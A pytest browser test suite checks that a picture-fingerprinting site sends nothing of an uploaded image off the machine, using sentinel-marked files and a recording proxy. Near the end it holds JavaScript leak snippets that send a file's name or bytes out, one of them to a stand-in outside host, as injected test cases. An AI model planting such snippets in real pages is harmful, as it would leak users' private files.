"""Nothing but fingerprints leaves the browser.

Sentinels are planted in the file's name, its metadata and its pixels. The browser is given the
recorder as its proxy for everything, this machine included, so each byte of a whole visit is on
record, by whatever way it was sent.
"""

import base64
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, FilePayload

from tests.browser.journey.pictures import draw, encoded, payload
from tests.browser.journey.visit import Visit
from tests.browser.journey.wire import Wire
from tests.conftest import RunningSite

pytestmark = pytest.mark.browser

NAME = "Sentinel-in-the-name-7f3a.png"
NOTE = "Sentinel-in-the-metadata-c41d"
CAMERA_TAG = 0x010E  # Exif's ImageDescription
SIZE = (1237, 911)
WINDOW = 12  # bytes in a row that are no accident


@pytest.fixture
def wire(shared_site: RunningSite) -> Iterator[Wire]:
    with Wire(shared_site.port) as wire:
        yield wire


@dataclass
class Traffic:
    """What the browser itself says that it asked for."""

    requests: list[tuple[str, str]] = field(default_factory=list)
    sockets: list[str] = field(default_factory=list)


@pytest.fixture
def context_on_wire(browser: Browser, wire: Wire) -> Iterator[BrowserContext]:
    # Without "<-loopback>" the browser would go round the proxy to this machine.
    context = browser.new_context(proxy={"server": wire.url, "bypass": "<-loopback>"})
    yield context
    context.close()


@pytest.fixture
def traffic(context_on_wire: BrowserContext) -> Traffic:
    traffic = Traffic()
    context_on_wire.on("request", lambda each: traffic.requests.append((each.method, each.url)))
    context_on_wire.on(
        "page", lambda page: page.on("websocket", lambda each: traffic.sockets.append(each.url))
    )
    return traffic


@pytest.fixture
def visit(context_on_wire: BrowserContext, traffic: Traffic, shared_site: RunningSite) -> Visit:
    return Visit(context_on_wire.new_page(), shared_site.url)


def marked_picture() -> FilePayload:
    """Draw a picture with sentinels in its name, its metadata and its pixels."""
    picture = draw(99, SIZE)
    sentinel = np.random.default_rng(7).integers(0, 256, (64, 64, 3), dtype=np.uint8)
    picture.paste(Image.fromarray(sentinel), (0, 0))
    exif = Image.Exif()
    exif[CAMERA_TAG] = NOTE
    return payload(NAME, encoded(picture, "png", exif=exif))


def broken_picture() -> FilePayload:
    return payload("broken-" + NAME, marked_picture()["buffer"][:9000])


def traces(sent: bytes, files: list[FilePayload]) -> list[str]:
    """Say what of the files can be found among bytes that were sent, also dressed up."""
    found = [word for word in (NAME.removesuffix(".png"), NOTE) if word.encode() in sent]
    plain = set(windows(sent))
    for dressed in (undressed_base64(sent), undressed_hex(sent)):
        plain |= set(windows(dressed))
    for each in files:
        inside = {
            each["buffer"][at : at + WINDOW] for at in range(100, len(each["buffer"]) - 100, WINDOW)
        }
        if inside & plain:
            found.append(f"bytes of {each['name']}")
    return found


def windows(data: bytes) -> Iterator[bytes]:
    return (data[at : at + WINDOW] for at in range(len(data) - WINDOW + 1))


def undressed_base64(sent: bytes) -> bytes:
    runs = re.findall(rb"[A-Za-z0-9+/_-]{16,}", sent)
    return b"".join(
        base64.urlsafe_b64decode(run[start : start + (len(run) - start) // 4 * 4])
        for run in (run.replace(b"+", b"-").replace(b"/", b"_") for run in runs)
        for start in range(4)
    )


def undressed_hex(sent: bytes) -> bytes:
    runs = re.findall(rb"(?:[0-9a-fA-F]{2}){12,}", sent)
    return b"\0".join(bytes.fromhex(run.decode()) for run in runs)


def posts(sent: bytes) -> list[bytes]:
    """Return the bodies of everything that is more than a question for a page."""
    heads = re.finditer(rb"(POST|PUT|PATCH|DELETE|CONNECT|OPTIONS) \S+ HTTP/1\.1\r\n", sent)
    return [sent[each.start() :].partition(b"\r\n\r\n")[2] for each in heads]


def only_fingerprints(body: dict[str, Any]) -> bool:
    """Say whether a request holds what the contract names, and no more."""
    fingerprints = [each for item in body["items"] for each in item["fingerprints"]]
    return (
        body.keys() == {"request_id", "who", "items"}
        and all(item.keys() == {"kind", "fingerprints"} for item in body["items"])
        and all(
            each.keys() in ({"algorithm", "value"}, {"algorithm", "value", "quality", "view"})
            for each in fingerprints
        )
    )


def everything_kept(site: RunningSite) -> bytes:
    """Return the server's log and every file in its data folder."""
    files = (path for path in site.data_dir.rglob("*") if path.is_file())
    return site.log_text().encode() + b"".join(path.read_bytes() for path in files)


def test_no_byte_of_the_picture_leaves_the_browser(
    visit: Visit, wire: Wire, traffic: Traffic, shared_site: RunningSite
) -> None:
    # Given a marked picture, a broken copy of it, and one whose hashing is stopped midway
    visit.begin()
    stopped = payload("stopped-" + NAME, marked_picture()["buffer"])
    files = [marked_picture(), broken_picture(), stopped]
    visit.choose(*files)
    visit.page.get_by_label(f"Stop: stopped-{NAME}").click()
    visit.wait_for(done=1, failed=2)
    # When the visitor goes the whole way
    visit.go_to_check()
    shown = visit.shown_request()
    visit.send()
    visit.case()
    # Then one body has left, as it was shown, and nothing of the files is anywhere on the wire
    sent = wire.sent()
    (body,) = posts(sent)
    assert body[: len(shown)] == shown.encode()
    assert only_fingerprints(json.loads(shown))
    assert traces(sent, files) == []
    assert traffic.sockets == []
    assert all(url.startswith(shared_site.url) for _, url in traffic.requests)
    # And nothing of it is in the server's log or on its disk
    assert traces(everything_kept(shared_site), files) == []


def test_nothing_leaves_when_the_visitor_goes_before_sending(visit: Visit, wire: Wire) -> None:
    visit.begin()
    files = [marked_picture(), broken_picture()]
    visit.choose(*files)
    visit.wait_for(done=1, failed=1)
    visit.go_to_check()
    visit.page.goto("about:blank")
    sent = wire.sent()
    assert posts(sent) == []
    assert traces(sent, files) == []


REGISTRATIONS = "navigator.serviceWorker.getRegistrations().then((all) => all.length)"


def test_nothing_is_left_in_the_browser(visit: Visit) -> None:
    visit.go_through(marked_picture())
    context = visit.page.context
    assert context.cookies() == []
    assert context.storage_state(indexed_db=True)["origins"] == []
    assert visit.page.evaluate("caches.keys()") == []
    assert visit.page.evaluate(REGISTRATIONS) == 0


LISTEN = """document.querySelector('#picker').addEventListener(
    'change', ({ target: { files: [file] } }) => { %s }, { capture: true })"""
LEAKS = {
    "the name in an address": "fetch('/x?n=' + encodeURIComponent(file.name))",
    "bytes in a beacon": "navigator.sendBeacon('/x', file.slice(200, 260))",
    "the whole file": "fetch('/x', { method: 'POST', body: file })",
    "the name in a socket": "new WebSocket(`ws://${location.host}/${file.name}`)",
    "bytes as hex": "file.slice(300, 360).bytes().then((it) => fetch('/x?' + it.toHex()))",
    "bytes as base64": "file.slice(301, 360).bytes().then((it) => fetch('/x?' + it.toBase64()))",
    "another host": "open('http://elsewhere.invalid/' + file.name)",
}


@pytest.mark.parametrize("way", LEAKS)
def test_the_recorder_sees_a_page_that_leaks(visit: Visit, wire: Wire, way: str) -> None:
    visit.begin()
    picture = marked_picture()
    visit.page.evaluate(LISTEN % LEAKS[way])
    visit.choose(picture)
    for _ in range(100):
        # A socket asks the proxy for a tunnel, and that alone gives it away.
        if traces(wire.sent(), [picture]) or posts(wire.sent()):
            return
        visit.page.wait_for_timeout(50)
    pytest.fail(f"{way}: not seen")
